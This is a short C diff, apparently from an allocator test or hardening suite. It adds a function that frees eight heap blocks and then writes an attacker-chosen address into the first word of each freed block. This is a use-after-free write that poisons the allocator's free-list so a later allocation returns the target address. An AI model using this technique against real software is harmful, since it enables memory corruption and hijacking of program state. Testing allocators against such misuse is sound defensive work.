@@ -1,0 +1,9 @@
+// An address of the attacker is written to the first word of freed blocks, where many allocators chain them.
+#include "misuse.h"
+
+static void misuse(size_t size) {
+    take_row(size);
+    for (int i = 0; i < 8; i++) drop(row[4 * i]);
+    for (int i = 0; i < 8; i++) *(uintptr_t *)OPAQUE(row[4 * i]) = (uintptr_t)&target[64];
+    harvest(size);
+}
